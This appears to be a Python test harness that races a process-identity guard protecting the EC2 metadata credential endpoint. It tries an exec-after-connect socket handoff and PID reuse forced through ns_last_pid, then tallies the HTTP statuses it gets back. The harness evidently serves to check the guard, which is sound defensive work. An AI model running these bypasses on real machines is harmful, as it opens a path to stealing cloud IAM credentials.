"""Processes that are not what they seem, in front of a guard of the same PID namespace.

As root: `guard_races.py KIND COUNT`. Prints how often each status came, as JSON. The user is 1003;
its rule opens credentials to `sleep` and to `curl`, and no program of these two ever asks.
"""

import json
import os
import socket
import sys
from collections import Counter

USER = 1003
PATH = "/latest/meta-data/iam/security-credentials/ec2-secrets-manager-role"
REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
SLEEP = "/usr/bin/sleep"


def connect():
    return socket.create_connection(("169.254.169.254", 80), timeout=10)


def status(connection):
    head = connection.recv(64)
    return head.split(b" ")[1].decode() if head else "closed"


def become_user():
    os.setgroups([])
    os.setresgid(USER, USER, USER)
    os.setresuid(USER, USER, USER)


def become_sleep():
    os.execv(SLEEP, [SLEEP, "10"])


def exec_after_connect(turn, _):
    """A child becomes a program that may, with the connection; this one, which may not, reads."""
    connection = connect()
    os.set_inheritable(connection.fileno(), True)
    if turn % 2:
        connection.send(REQUEST)
    child = os.fork()
    if child == 0:
        become_sleep()
    if turn % 2 == 0:
        connection.send(REQUEST)
    found = status(connection)
    connection.close()
    os.kill(child, 9)
    os.waitpid(child, 0)
    return found


def pid_reuse(turn, seen):
    """Who connected has ended, its number is that of a program that may, and nobody has the
    connection, which is on its way in a socket."""
    here, there = socket.socketpair()
    child = os.fork()
    if child == 0:
        become_user()
        connection = connect()
        if turn % 2:
            connection.send(REQUEST)
        socket.send_fds(there, [b"x"], [connection.fileno()])
        os._exit(0)
    os.waitpid(child, 0)
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(child - 1))
    sleeper = os.fork()
    if sleeper == 0:
        become_user()
        become_sleep()
    seen["reused"] += sleeper == child
    _, [number], _, _ = socket.recv_fds(here, 1, 1)
    connection = socket.socket(fileno=number)
    connection.settimeout(10)
    if turn % 2 == 0:
        connection.send(REQUEST)
    found = status(connection)
    for each in (connection, here, there):
        each.close()
    os.kill(sleeper, 9)
    os.waitpid(sleeper, 0)
    return found


def main():
    kind, count = sys.argv[1], int(sys.argv[2])
    turn_of = {"exec": exec_after_connect, "reuse": pid_reuse}[kind]
    if kind == "exec":
        become_user()
    seen = Counter()
    for turn in range(count):
        seen[turn_of(turn, seen)] += 1
    print(json.dumps(seen))


main()
